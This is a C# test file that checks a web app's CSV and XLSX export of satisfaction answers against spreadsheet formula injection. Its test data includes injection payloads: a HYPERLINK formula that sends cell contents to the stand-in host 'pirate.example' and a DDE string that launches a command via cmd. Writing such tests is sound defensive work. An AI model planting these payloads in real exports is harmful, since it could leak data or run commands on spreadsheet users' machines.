using System.Net;
using Cap.Domain.Satisfaction;
using Cap.Web.Tests.Indicators.Export;
using Cap.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using static Cap.Web.Tests.Infrastructure.TestHttp;

namespace Cap.Web.Tests.Satisfaction;

/// <summary>
/// The satisfaction answers export, read back from the files the real endpoint produces: a comment or a placement
/// label that a spreadsheet would run as a formula is neutralised, numbers stay numbers, XML-forbidden characters
/// never break the XLSX.
/// </summary>
public abstract class AnswerExportSafetyTests<TFactory>(TFactory factory) : IClassFixture<TFactory> where TFactory : CapWebFactory
{
    private const string Tab = $"/produits/{Demo.JourneyProductSlug}/satisfaction";
    private const string Label = "=HYPERLINK(\"https://pirate.example\";\"Avis\")";

    private static readonly string[] Comments =
    [
        "=HYPERLINK(\"https://pirate.example/?d=\"&A1;\"Cliquez ici\")",
        "+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "-2+3",
        "\t=1+1",
        "Très bien, = rien à redire",
    ];

    private const string Invalid = "ok\u0001\u001F\uFFFE fin";

    private async Task EnsureAnswersAsync() => await QueryAsync(factory, async db =>
    {
        if (await db.Placements.AnyAsync(p => p.Label == Label))
        {
            return 0;
        }
        var form = await db.FeedbackForms.SingleAsync(f => f.Product!.Slug == Demo.JourneyProductSlug);
        var placement = new Placement { ProductId = form.ProductId, FormId = form.Id, Label = Label, PublicKey = Placement.NewKey(), AllowedOrigins = SatisfactionTestData.Origin, IsEnabled = true };
        db.Placements.Add(placement);
        await db.SaveChangesAsync();
        var at = new DateTimeOffset(2025, 3, 10, 9, 0, 0, TimeSpan.Zero);
        foreach (var comment in Comments.Append(Invalid))
        {
            db.FeedbackAnswers.Add(new FeedbackAnswer
            {
                ProductId = form.ProductId, PlacementId = placement.Id, FormVersion = 1, ReceivedAt = at, Day = DateOnly.FromDateTime(at.Date),
                Experience = 1, Clarity = 2, HelpQuality = 3, Comment = comment,
            });
        }
        return await db.SaveChangesAsync();
    });

    [Fact]
    public async Task Csv_export_neutralises_formula_comments_and_labels()
    {
        await EnsureAnswersAsync();
        using var client = factory.CreateClientFor(Demo.Lecteur);

        using var response = await client.GetAsync($"{Tab}/export/csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var records = ExportFiles.ReadCsv(await response.Content.ReadAsByteArrayAsync());
        var mine = records.Where(r => r[2] == "'" + Label).ToList();
        Assert.Equal(Comments.Length + 1, mine.Count);
        foreach (var comment in Comments)
        {
            Assert.Contains(mine, r => r[10] == (comment.StartsWith("Très", StringComparison.Ordinal) ? comment : "'" + comment));
        }
        Assert.All(mine, r => Assert.Equal(("0", "2", "3"), (r[5], r[6], r[9])));
        ExportFiles.AssertNoCsvCellRunsAsAFormula(records);
    }

    [Fact]
    public async Task Xlsx_export_neutralises_formula_comments_keeps_numbers_and_opens_despite_forbidden_characters()
    {
        await EnsureAnswersAsync();
        using var client = factory.CreateClientFor(Demo.Lecteur);

        using var response = await client.GetAsync($"{Tab}/export/xlsx");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var rows = ExportFiles.ReadXlsx(await response.Content.ReadAsByteArrayAsync());
        var mine = rows.Where(r => r[2].Text == "'" + Label).ToList();
        Assert.Equal(Comments.Length + 1, mine.Count);
        foreach (var comment in Comments)
        {
            Assert.Contains(mine, r => r[10].Text == (comment.StartsWith("Très", StringComparison.Ordinal) ? comment : "'" + comment));
        }
        Assert.Contains(mine, r => r[10].Text == "ok fin");
        Assert.All(mine, r => Assert.True(r[0].IsNumber && r[5].IsNumber && r[6].IsNumber));
        ExportFiles.AssertNoXlsxTextCellRunsAsAFormula(rows);
    }
}

public sealed class AnswerExportSafetyTestsSqlite(SqliteCapFactory factory) : AnswerExportSafetyTests<SqliteCapFactory>(factory);

public sealed class AnswerExportSafetyTestsPostgres(PostgresCapFactory factory) : AnswerExportSafetyTests<PostgresCapFactory>(factory);
